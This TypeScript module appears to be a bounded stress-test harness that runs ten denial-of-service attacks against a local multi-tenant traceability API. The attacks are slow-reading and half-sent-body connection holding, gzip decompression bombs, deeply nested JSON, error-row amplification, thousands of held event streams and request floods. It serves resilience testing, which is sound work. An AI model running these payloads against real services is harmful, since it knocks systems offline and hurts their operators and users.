/**
 * What a tenant with a valid credential can do to others, each as a bounded programme against a service on this machine.
 * Whoever runs them states how long; nothing goes on after the signal.
 */
import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';

/** The service and the attacker's credentials and rows. Plain data: it travels between processes. */
export interface AttackTarget {
  url: string;
  apiKey: string;
  /** Of one user. */
  tokens: string[];
  /** UUIDs of journeys with very many stages of long texts. */
  journeyIds: string[];
}

/** How often which status was answered; `closed` counts connections that the service ended, `refused` those it did not take. */
export type AttackReport = Record<string, number>;

export interface Attack {
  name: string;
  run(target: AttackTarget, signal: AbortSignal): Promise<AttackReport>;
}

class Tally {
  readonly counts: AttackReport = {};

  add(outcome: string | number): void {
    const name = String(outcome);
    this.counts[name] = (this.counts[name] ?? 0) + 1;
  }
}

interface Call {
  method?: 'GET' | 'POST';
  path: string;
  headers: Record<string, string>;
  body?: Uint8Array;
}

/** Sends a request, reads the whole answer and keeps at most its beginning; 0 when the connection broke. */
function send(url: string, call: Call, signal: AbortSignal): Promise<{ status: number; text: string }> {
  return new Promise((resolve) => {
    const headers = { ...call.headers, ...(call.body ? { 'content-length': String(call.body.length) } : {}) };
    const sent = request(new URL(call.path, url), { method: call.method ?? 'GET', headers, signal }, (response) => {
      let text = '';
      response.on('data', (piece: Buffer) => {
        if (text.length < 4096) text += piece.toString('latin1');
      });
      const done = () => resolve({ status: response.statusCode ?? 0, text });
      response.on('close', done).on('error', done);
    });
    sent.on('error', () => resolve({ status: 0, text: '' }));
    sent.end(call.body);
  });
}

/** So many clients, each of which sends its next request when the last one was answered. */
async function hammer(
  target: AttackTarget,
  clients: number,
  signal: AbortSignal,
  next: (client: number) => Call,
): Promise<AttackReport> {
  const tally = new Tally();
  const client = async (number: number) => {
    while (!signal.aborted) {
      const { status } = await send(target.url, next(number), signal);
      if (signal.aborted) return;
      tally.add(status);
      // whom nobody answers needs no loop without a pause
      if (status === 0) await sleep(100);
    }
  };
  await Promise.all(Array.from({ length: clients }, (_, number) => client(number)));
  return tally.counts;
}

/** Connections on which `text` is written once, and of whose answers nothing is read beyond the first piece. */
async function holdOpen(
  target: AttackTarget,
  texts: string[],
  signal: AbortSignal,
  options: { reads: boolean },
): Promise<AttackReport> {
  const { hostname, port, host } = new URL(target.url);
  const tally = new Tally();
  const sockets: Socket[] = [];
  for (const [index, text] of texts.entries()) {
    if (signal.aborted) break;
    const socket = connect({ host: hostname, port: Number(port) });
    sockets.push(socket);
    let status: string | undefined;
    socket.once('connect', () => socket.write(text.replace('{host}', host)));
    socket.on('data', (piece) => {
      status ??= /^HTTP\/1\.1 (\d{3})/.exec(piece.toString('latin1', 0, 20))?.[1] ?? 'unreadable';
      if (!options.reads && status === '200') socket.pause();
    });
    socket.on('error', () => undefined);
    socket.once('close', () => {
      if (!signal.aborted) tally.add(status ?? 'refused');
    });
    // a client that opens thousands at once only fills its own queue
    if (index % 100 === 99) await sleep(20);
  }
  await ended(signal);
  for (const socket of sockets) {
    if (!socket.destroyed) tally.add('open at the end');
    socket.destroy();
  }
  return tally.counts;
}

const ended = (signal: AbortSignal) =>
  new Promise<void>((resolve) => {
    if (signal.aborted) resolve();
    else signal.addEventListener('abort', () => resolve(), { once: true });
  });

const key = (target: AttackTarget) => ({ 'x-api-key': target.apiKey });
const bearer = (target: AttackTarget, number = 0) => ({
  authorization: `Bearer ${target.tokens[number % target.tokens.length]!}`,
});

/** Members of gzip can follow each other: what is compressed once inflates as often as it stands there. */
const repeated = (member: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => member));

const NDJSON_GZIP = { 'content-type': 'application/x-ndjson', 'content-encoding': 'gzip', prefer: 'respond-async' };

const NESTED_LINES = 30;
const EMPTY_OBJECTS = 2_600_000;
const WIDE_ROWS = 220;
const WIDE_BYTES = 8 * 1024 ** 2;
const ERROR_ROWS = 1_000_000;

const upload = (target: AttackTarget, body: Buffer, signal: AbortSignal) =>
  send(
    target.url,
    { method: 'POST', path: '/api/suppliers/bulk', headers: { ...key(target), ...NDJSON_GZIP }, body },
    signal,
  );

const jobIn = (text: string) => /"job_id":"([0-9a-f-]{36})"/.exec(text)?.[1];

/** Uploads a payload again and again, with `parallel` readers of the latest job's failed rows. */
async function uploadAndRead(
  target: AttackTarget,
  body: Buffer,
  readers: number,
  signal: AbortSignal,
): Promise<AttackReport> {
  const tally = new Tally();
  let latest: string | undefined;
  const writing = async () => {
    while (!signal.aborted) {
      tally.add('sent');
      const { status, text } = await upload(target, body, signal);
      if (signal.aborted) return;
      tally.add(`upload ${status}`);
      latest = jobIn(text) ?? latest;
      await sleep(3000, undefined, { signal }).catch(() => undefined);
    }
  };
  const reading = async () => {
    while (!signal.aborted) {
      if (latest === undefined) await sleep(200);
      else {
        const path = `/api/v1/jobs/${latest}/failed.csv`;
        const { status } = await send(target.url, { path, headers: bearer(target) }, signal);
        if (!signal.aborted) tally.add(`read ${status}`);
        await sleep(50);
      }
    }
  };
  await Promise.all([writing(), ...Array.from({ length: readers }, reading)]);
  return tally.counts;
}

const get = (path: string, headers: Record<string, string>) =>
  `GET ${path} HTTP/1.1\r\nhost: {host}\r\n${Object.entries(headers)
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`;

/** Each may run alone or beside the others. */
export const ATTACKS: readonly Attack[] = [
  {
    name: 'slow readers',
    run: (target, signal) =>
      holdOpen(
        target,
        Array.from({ length: 12 }, () => get('/api/company-products', key(target))),
        signal,
        { reads: false },
      ),
  },
  {
    name: 'huge answers',
    run: (target, signal) =>
      hammer(target, 2, signal, (client) => ({
        path:
          client === 0
            ? '/api/v1/product/traceability?limit=100'
            : `/api/v1/product/traceability/${target.journeyIds[0]!}`,
        headers: bearer(target),
      })),
  },
  {
    name: 'wide rows',
    run(target, signal) {
      const row = gzipSync(`{"name":1,"x":"${'a'.repeat(WIDE_BYTES)}"}\n`);
      return uploadAndRead(target, repeated(row, WIDE_ROWS), 5, signal);
    },
  },
  {
    name: 'nested rows',
    async run(target, signal) {
      const line = gzipSync(`{"name":"n","x":[${'{},'.repeat(EMPTY_OBJECTS - 1)}{}]}\n`);
      const body = repeated(line, NESTED_LINES);
      const tally = new Tally();
      while (!signal.aborted) {
        const { status } = await upload(target, body, signal);
        if (signal.aborted) break;
        tally.add(status);
        await sleep(1000, undefined, { signal }).catch(() => undefined);
      }
      return tally.counts;
    },
  },
  {
    name: 'amplification',
    run: (target, signal) => uploadAndRead(target, gzipSync('{}\n'.repeat(ERROR_ROWS)), 2, signal),
  },
  {
    name: 'searches',
    run: (target, signal) =>
      hammer(target, 40, signal, (client) => ({
        path: '/api/v1/product/materials?search=o&page=900&limit=8',
        headers: bearer(target, client),
      })),
  },
  {
    name: 'event streams',
    async run(target, signal) {
      const { text } = await upload(target, gzipSync('{"name":"Filatura"}\n'.repeat(200_000)), signal);
      const path = `/api/v1/jobs/${jobIn(text) ?? '00000000-0000-4000-8000-000000000000'}/events`;
      const streams = Array.from({ length: 3000 }, (_, number) => get(path, bearer(target, number)));
      return holdOpen(target, streams, signal, { reads: true });
    },
  },
  {
    name: 'half-sent bodies',
    run: (target, signal) =>
      holdOpen(
        target,
        Array.from(
          { length: 3000 },
          () =>
            'POST /api/v1/auth/login HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{"email":',
        ),
        signal,
        { reads: true },
      ),
  },
  {
    name: 'readiness',
    run: (target, signal) => hammer(target, 64, signal, () => ({ path: '/api/v1/health/ready', headers: {} })),
  },
  {
    name: 'JSON bodies',
    run(target, signal) {
      const json = { 'content-type': 'application/json' };
      const levels = 500_000;
      const deep = gzipSync(`{"email":${'['.repeat(levels)}${']'.repeat(levels)}}`);
      const metadata = Object.fromEntries(Array.from({ length: 70_000 }, (_, key) => [`k${key}`, key]));
      const wide = Buffer.from(JSON.stringify({ traceabilityName: 'Wide', metadata }));
      return hammer(target, 40, signal, (client) =>
        client % 2 === 0
          ? {
              method: 'POST',
              path: '/api/v1/auth/login',
              headers: { ...json, 'content-encoding': 'gzip' },
              body: deep,
            }
          : {
              method: 'POST',
              path: '/api/v1/product/traceability',
              headers: { ...json, ...bearer(target, client) },
              body: wide,
            },
      );
    },
  },
];
